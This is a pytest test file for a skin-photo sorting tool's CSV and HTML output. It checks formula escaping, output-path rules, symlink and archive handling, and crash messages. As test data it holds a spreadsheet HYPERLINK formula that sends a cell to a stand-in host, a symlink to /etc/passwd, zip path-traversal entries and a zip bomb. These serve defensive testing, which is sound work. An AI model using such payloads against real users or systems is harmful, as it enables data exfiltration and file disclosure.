"""Issue 21 (hardening, second round): what `skinfindings sort` writes, where, and what it reads.

    python -m pytest -q tests/test_hardening_sort.py

Formula-safe CSV cells, one rule for output paths (never over an input, a list, another
output or the journal; folders refused; missing parents created), links out of the folder,
patients lists with a name twice, CSV fields over the csv module's limit, and Ctrl+C.
"""

from __future__ import annotations

import csv
import io
import os
import zipfile

import pytest
from PIL import Image

from conftest import skin_like
from skinfindings.app import csv_cells, presort_cli, presort_inputs
from skinfindings.app import presort as ps
from skinfindings.app.output_paths import OutputPathError, check_outputs
from skinfindings.app.presort_patients import read_patient_map
from skinfindings.app.presort_rows import CSV_COLUMNS

HOSTILE_NAME = '=HYPERLINK("http:__evil.example_?"&B2,"Open")'


def jpeg(seed: int) -> bytes:
    buffer = io.BytesIO()
    skin_like(200, seed=seed).save(buffer, format="JPEG", quality=90)
    return buffer.getvalue()


@pytest.fixture
def inbox(tmp_path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    for i, name in enumerate((f"{HOSTILE_NAME}.jpg", "+1.jpg", "-2.jpg", "@3.jpg", "keep.png")):
        (folder / name).write_bytes(jpeg(i))
    with zipfile.ZipFile(folder / "=cmd.zip", "w") as archive:
        archive.writestr("=inner.jpg", jpeg(9))
    return folder


def sort(*args) -> int:
    return presort_cli.main([*map(str, args), "--no-progress"])


def cells(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# ---------------------------------------------------------------- formula injection (5)


def test_escape_cell_marks_formulas_as_text_and_round_trips():
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", HOSTILE_NAME):
        escaped = csv_cells.escape_cell(text)
        assert escaped == "'" + text and csv_cells.unescape_cell(escaped) == text
    for text in ("photo.jpg", "0.1234", "", "'quoted", "a=b"):
        assert csv_cells.escape_cell(text) == text and csv_cells.unescape_cell(text) == text


def test_no_cell_of_the_sort_csv_starts_a_formula(inbox, tmp_path, untrained_checkpoint):
    mapping = tmp_path / "patients.csv"
    with mapping.open("w", newline="") as handle:
        csv.writer(handle).writerows([["file", "patient", "day"], [f"{HOSTILE_NAME}.jpg", "=2+5", "3"],
                                      ["+1.jpg", "@ana", "4"]])
    out = tmp_path / "report.csv"
    assert sort(inbox, "--out", out, "--patients", mapping, "--checkpoint", untrained_checkpoint) == 0
    rows = cells(out)
    assert all(not cell.startswith(csv_cells.FORMULA_STARTS) for row in rows for cell in row)
    names = {row[1] for row in rows[1:]}
    assert f"'inbox/{HOSTILE_NAME}.jpg" not in names  # names are relative to the folder: no formula start
    assert "'=cmd.zip/=inner.jpg" in names or "inbox/=cmd.zip/=inner.jpg" in names
    patients = {row[rows[0].index("patient")] for row in rows[1:]}
    assert {"'=2+5", "'@ana"} <= patients
    # A resume reads the names back as they were.
    assert sort(inbox, "--out", out, "--checkpoint", untrained_checkpoint) == 0
    assert len(cells(out)) == len(rows)


def test_a_photo_given_by_itself_with_a_formula_name_is_escaped(inbox, tmp_path, untrained_checkpoint):
    out = tmp_path / "r.csv"
    assert sort(inbox / "-2.jpg", inbox / "=cmd.zip", "--out", out, "--checkpoint", untrained_checkpoint) == 0
    names = sorted(row[1] for row in cells(out)[1:])
    assert names == ["'-2.jpg", "'=cmd.zip/=inner.jpg"]
    assert sorted(r.name for r in ps.read_csv(out)) == ["-2.jpg", "=cmd.zip/=inner.jpg"]


# ---------------------------------------------------------------- output paths (6, 11)


@pytest.mark.parametrize("which", ["photo", "patients", "red_flags", "out", "journal", "zip"])
def test_html_never_overwrites_an_input_a_list_or_another_output(inbox, tmp_path, untrained_checkpoint, capsys, which):
    mapping, flags, out = tmp_path / "patients.csv", tmp_path / "flags.csv", tmp_path / "r.csv"
    mapping.write_text("file,patient,day\n+1.jpg,ana,3\n")
    flags.write_text("name,red_flags\n+1.jpg,fever\n")
    target = {"photo": inbox / "keep.png", "patients": mapping, "red_flags": flags, "out": out,
              "journal": tmp_path / "r.csv.partial", "zip": inbox / "=cmd.zip"}[which]
    target.write_bytes(target.read_bytes() if target.exists() else b"photo_id,name\n" if which == "out" else b"kept")
    before = target.read_bytes()
    code = sort(inbox, "--out", out, "--html", target, "--patients", mapping, "--red-flags", flags,
                "--checkpoint", untrained_checkpoint)
    assert code == 2 and target.read_bytes() == before
    assert "--html" in capsys.readouterr().err


def test_out_may_not_be_an_input_photo_nor_a_file_of_another_kind(inbox, tmp_path, untrained_checkpoint, capsys):
    keep = inbox / "keep.png"
    before = keep.read_bytes()
    assert sort(inbox, "--out", keep, "--restart", "--checkpoint", untrained_checkpoint) == 2
    assert keep.read_bytes() == before and "one of the inputs" in capsys.readouterr().err
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes")
    assert sort(inbox, "--out", notes, "--checkpoint", untrained_checkpoint) == 2
    assert notes.read_text() == "my notes" and "not a pre-sort CSV" in capsys.readouterr().err


def test_out_as_a_folder_is_a_clear_error(inbox, tmp_path, untrained_checkpoint, capsys):
    folder = tmp_path / "reports"
    folder.mkdir()
    assert sort(inbox, "--out", folder, "--checkpoint", untrained_checkpoint) == 2
    err = capsys.readouterr().err
    assert "is a folder; give a file name in it" in err and "Traceback" not in err
    assert sort(inbox, "--out", tmp_path / "r.csv", "--html", folder, "--checkpoint", untrained_checkpoint) == 2


def test_missing_folders_of_the_outputs_are_created_before_the_run(inbox, tmp_path, untrained_checkpoint):
    out, page = tmp_path / "new" / "dir" / "r.csv", tmp_path / "pages" / "w.html"
    assert sort(inbox, "--out", out, "--html", page, "--checkpoint", untrained_checkpoint) == 0
    assert out.is_file() and page.is_file()


def test_check_outputs_accepts_a_rerun_of_its_own_report(tmp_path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "report.csv").write_text("photo_id,name,tier\n")
    (folder / "report.html").write_text("<!doctype html>")
    outputs = check_outputs(folder / "report.csv", folder / "report.html", [folder], csv_header="photo_id,name")
    assert outputs.journal.name == "report.csv.partial"
    with pytest.raises(OutputPathError, match="also --out"):
        check_outputs(tmp_path / "same.csv", tmp_path / "same.csv", [folder], csv_header="photo_id,name")


# ---------------------------------------------------------------- links out of the folder (15)


def test_sort_does_not_follow_a_link_out_of_the_folder(tmp_path, untrained_checkpoint):
    folder = tmp_path / "inbox"
    (folder / "sub").mkdir(parents=True)
    secret = tmp_path / "elsewhere.jpg"
    secret.write_bytes(jpeg(1))
    (folder / "a.jpg").write_bytes(jpeg(2))
    os.symlink("/etc/passwd", folder / "passwd.jpg")
    os.symlink(secret, folder / "sub" / "other-patient.jpg")
    os.symlink(folder / "a.jpg", folder / "sub" / "same.jpg")  # inside the folder: read
    items = {item.name: item for item in presort_inputs.collect_inputs([folder])}
    assert items["inbox/passwd.jpg"].problem == presort_inputs.LINK_OUT_OF_FOLDER
    assert items["inbox/sub/other-patient.jpg"].problem == presort_inputs.LINK_OUT_OF_FOLDER
    assert items["inbox/sub/same.jpg"].problem is None
    out = tmp_path / "r.csv"
    assert sort(folder, "--out", out, "--checkpoint", untrained_checkpoint) == 0
    errors = {r.name: r.error for r in ps.read_csv(out)}
    assert errors["inbox/passwd.jpg"] == presort_inputs.LINK_OUT_OF_FOLDER and errors["inbox/a.jpg"] is None


# ---------------------------------------------------------------- patients lists (10)


def test_a_file_named_twice_in_the_patients_list_is_refused_with_both_lines(tmp_path, capsys, untrained_checkpoint):
    mapping = tmp_path / "patients.csv"
    mapping.write_text("file,patient,day\na.jpg,ana,1\nb.jpg,ben,2\na.jpg,ana,9\n")
    with pytest.raises(ValueError, match=r"lines 2 and 4: 'a.jpg' is listed twice"):
        read_patient_map(mapping)
    (tmp_path / "inbox").mkdir()
    assert sort(tmp_path / "inbox", "--out", tmp_path / "r.csv", "--patients", mapping,
                "--checkpoint", untrained_checkpoint) == 2
    assert "listed twice" in capsys.readouterr().err


# ---------------------------------------------------------------- crashes (11)


def test_a_field_over_the_csv_limit_is_a_clear_error(inbox, tmp_path, untrained_checkpoint, capsys):
    huge = "x" * 200_000
    mapping, flags = tmp_path / "patients.csv", tmp_path / "flags.csv"
    mapping.write_text(f"file,patient,day\na.jpg,{huge},1\n")
    flags.write_text(f"name,red_flags\na.jpg,{huge}\n")
    out = tmp_path / "r.csv"
    for extra in (["--patients", mapping], ["--red-flags", flags]):
        assert sort(inbox, "--out", out, *extra, "--checkpoint", untrained_checkpoint) == 2
        err = capsys.readouterr().err
        assert "field larger than field limit" in err and "Traceback" not in err
    out.write_text(",".join(CSV_COLUMNS) + f"\nabc,{huge},1\n")
    assert sort(inbox, "--out", out, "--checkpoint", untrained_checkpoint) == 2
    assert "could not be read back to resume" in capsys.readouterr().err


def test_ctrl_c_says_how_to_resume_in_one_line(inbox, tmp_path, untrained_checkpoint, capsys, monkeypatch):
    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(presort_cli, "presort", interrupted)
    assert sort(inbox, "--out", tmp_path / "r.csv", "--checkpoint", untrained_checkpoint) == 130
    err = capsys.readouterr().err.strip()
    assert err.splitlines()[-1] == "skinfindings sort: interrupted — run the same command again to resume"
    assert "Traceback" not in err


def test_image_helper_is_a_real_jpeg():  # the fixtures above are photos the loader accepts
    assert Image.open(io.BytesIO(jpeg(0))).format == "JPEG"


# ---------------------------------------------------------------- the probe's hostile zips (they held; kept so)


def hostile_zips(folder) -> list:
    """Archives of the kinds the probe sent: each must become rows with reasons, never an exception."""
    made = []

    def archive(name, entries, **options):
        path = folder / name
        with zipfile.ZipFile(path, "w", **options) as zf:
            for entry, data in entries:
                zf.writestr(entry, data)
        made.append(path)
        return path

    archive("traversal.zip", [("../../etc/x.jpg", jpeg(1)), ("/abs/y.jpg", jpeg(2)), ("c:evil.jpg", jpeg(3))])
    archive("nested.zip", [("inner.zip", b"PK\x05\x06" + bytes(18)), ("a.jpg", jpeg(4))])
    archive("bomb.zip", [("zeros.jpg", bytes(5 * 1024 * 1024))], compression=zipfile.ZIP_DEFLATED)
    archive("empty.zip", [])
    archive("junk.zip", [("__MACOSX/._a.jpg", b"junk"), (".hidden.jpg", jpeg(5)), ("Thumbs.db", b"x")])
    truncated = archive("truncated.zip", [("a.jpg", jpeg(6))])
    truncated.write_bytes(truncated.read_bytes()[:-30])
    (folder / "not-a-zip.zip").write_bytes(b"this is no archive")
    made.append(folder / "not-a-zip.zip")
    encrypted = archive("encrypted.zip", [("a.jpg", jpeg(7))])
    data = bytearray(encrypted.read_bytes())
    data[6] |= 0x1  # the local header's "encrypted" flag
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 0x1  # and the central directory's
    encrypted.write_bytes(bytes(data))
    return made


def test_hostile_zips_become_rows_with_reasons(tmp_path, untrained_checkpoint):
    folder = tmp_path / "zips"
    folder.mkdir()
    hostile_zips(folder)
    out = tmp_path / "r.csv"
    assert sort(folder, "--out", out, "--checkpoint", untrained_checkpoint) == 0
    rows = {r.name: r for r in ps.read_csv(out)}
    assert rows["zips/nested.zip/a.jpg"].error is None  # the good photo beside a nested archive is read
    for name, row in rows.items():
        if name != "zips/nested.zip/a.jpg":
            assert row.error or row.abstain_reason, name  # refused with a reason, never silently dropped
    assert not any("hidden" in name or "MACOSX" in name for name in rows)
